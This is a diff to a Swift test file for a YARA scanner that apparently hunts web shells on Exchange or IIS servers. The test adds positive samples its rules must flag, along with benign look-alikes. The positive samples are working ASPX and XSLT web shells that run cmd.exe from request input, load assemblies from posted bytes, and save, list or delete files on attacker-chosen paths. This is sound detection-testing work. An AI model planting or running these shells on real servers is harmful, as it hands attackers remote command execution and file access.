@@ -28,6 +28,34 @@ func compileOwn() throws -> YaraRules {
             ("EXHUNT_ASPX_Base64_Loader", #"<%@ Page Language="C#" %><script runat="server">void Page_Load(){ System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["d"])).CreateInstance("X"); }</script>"#),
             ("EXHUNT_ASPX_Command_Runner", #"<%@ Page Language="C#" %><% var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.QueryString["c"]); %>"#),
             ("EXHUNT_Dropper_OneLiner_WebShell_Write", #"cmd /c echo ^<script language="JScript" runat="server"^>... > C:\inetpub\wwwroot\aspnet_client\x.aspx"#),
+            // Families from public reports, rebuilt from their descriptions.
+            ("EXHUNT_XSLT_Script_Shell", """
+                <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:u="urn:u">
+                <msxsl:script language="C#" implements-prefix="u"><![CDATA[public string x(string c){ var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c); p.RedirectStandardOutput = true; p.UseShellExecute = false; return System.Diagnostics.Process.Start(p).StandardOutput.ReadToEnd(); }]]></msxsl:script>
+                <xsl:template match="/"><xsl:value-of select="u:x(string(/r/c))"/></xsl:template></xsl:stylesheet>
+                """),
+            ("EXHUNT_XSLT_Script_Shell", #"<%@ Page Language="C#" %><% var t = new System.Xml.Xsl.XslCompiledTransform(); t.Load(System.Xml.XmlReader.Create(new System.IO.StringReader(Request.Form["x"])), new System.Xml.Xsl.XsltSettings(true, true), null); %>"#),
+            ("EXHUNT_ASPX_Process_From_Request", """
+                <%@ Page Language="VB" %>
+                <script runat="server">
+                Sub Run(sender As Object, e As EventArgs)
+                    Dim p As New Process()
+                    p.StartInfo.FileName = Request.Form("f")
+                    p.StartInfo.Arguments = Request.Form("a")
+                    p.StartInfo.UseShellExecute = False
+                    p.StartInfo.RedirectStandardOutput = True
+                    p.Start()
+                    output.Text = p.StandardOutput.ReadToEnd()
+                End Sub
+                </script>
+                """),
+            ("EXHUNT_ASPX_Process_From_Request", """
+                <%@ Page Language="C#" %><script runat="server">void R(object s, EventArgs e){ var i = new System.Diagnostics.ProcessStartInfo(cmd.Text); i.RedirectStandardOutput = true; i.UseShellExecute = false; o.Text = System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd(); }</script>
+                <form runat="server"><asp:TextBox id="cmd" runat="server" /><asp:Button OnClick="R" runat="server" /><asp:Label id="o" runat="server" /></form>
+                """),
+            ("EXHUNT_ASPX_Reflective_Loader", #"<%@ Page Language="C#" %><% var b = Request.BinaryRead(Request.ContentLength); System.Reflection.Assembly.Load(b).CreateInstance("P").Equals(this); %>"#),
+            ("EXHUNT_ASPX_Upload_Or_File_Manager", #"<%@ Page Language="C#" %><% if (Request.Files.Count > 0) { Request.Files[0].SaveAs(Request.Form["path"]); } %>"#),
+            ("EXHUNT_ASPX_Upload_Or_File_Manager", #"<%@ Page Language="C#" %><% var d = Request.QueryString["d"]; foreach (var f in System.IO.Directory.GetFiles(d)) Response.Write(f); if (Request["del"] != null) System.IO.File.Delete(Request["del"]); %>"#),
         ]
         for (rule, text) in positives {
             let hits = try scanner.scan(Array(text.utf8)).map(\.rule)
@@ -41,6 +69,14 @@ func compileOwn() throws -> YaraRules {
             "<%@ Page language=\"c#\" AutoEventWireup=\"false\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\n<form action=\"/owa/auth.owa\" method=\"POST\"><input name=\"username\"></form>",
             "Name : OAB (Default Web Site)\r\nPollInterval : 480\r\nExternalUrl : https://mail.contoso.com/OAB\r\n",
             "<configuration><system.webServer><httpRedirect enabled=\"false\" /></system.webServer></configuration>",
+            // Benign twins of the new families: a stylesheet with no script, a page transforming a
+            // fixed server file with scripts off, a page listing a fixed folder, an upload saved to a
+            // fixed folder under a name the server makes, a page that only reads process counters.
+            #"<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="/r"/></xsl:template></xsl:stylesheet>"#,
+            #"<%@ Page Language="C#" %><% var t = new System.Xml.Xsl.XslCompiledTransform(); t.Load(Server.MapPath("~/report.xslt")); t.Transform(Server.MapPath("~/data.xml"), null, Response.Output); %>"#,
+            #"<%@ Page Language="C#" %><% foreach (var f in System.IO.Directory.GetFiles(Server.MapPath("~/App_Data"))) Response.Write(System.IO.Path.GetFileName(f)); %>"#,
+            #"<%@ Page Language="C#" %><% if (FileUpload1.HasFile) { FileUpload1.PostedFile.SaveAs(Server.MapPath("~/uploads/") + Guid.NewGuid()); } %>"#,
+            #"<%@ Page Language="C#" %><% Response.Write(System.Diagnostics.Process.GetCurrentProcess().WorkingSet64); %>"#,
         ]
         for text in negatives {
             #expect(try scanner.scan(Array(text.utf8)).isEmpty, "\(text)")
@@ -58,7 +94,10 @@ func compileOwn() throws -> YaraRules {
         try "rule ok_one { condition: true }\n\nrule broken {\n  strings: $a = \"x\"\n  condition: $b\n}\n".write(to: bad, atomically: true, encoding: .utf8)
         let (rules, errors) = YaraRules.compile([(bad, "bad.yar"), (ownRules, "own.yar")])
         let r = try #require(rules)
-        #expect(r.ruleCount == 6)
+        // The bad file is left out whole; every rule of the own file compiles.
+        let own = try String(contentsOf: ownRules, encoding: .utf8).split(separator: "\n").filter { $0.hasPrefix("rule ") }.count
+        #expect(own >= 10)
+        #expect(r.ruleCount == own)
         let e = try #require(errors.first)
         #expect(e.file == "bad.yar")
         #expect((5...6).contains(e.line), "libyara reports the undefined string at the rule's end")
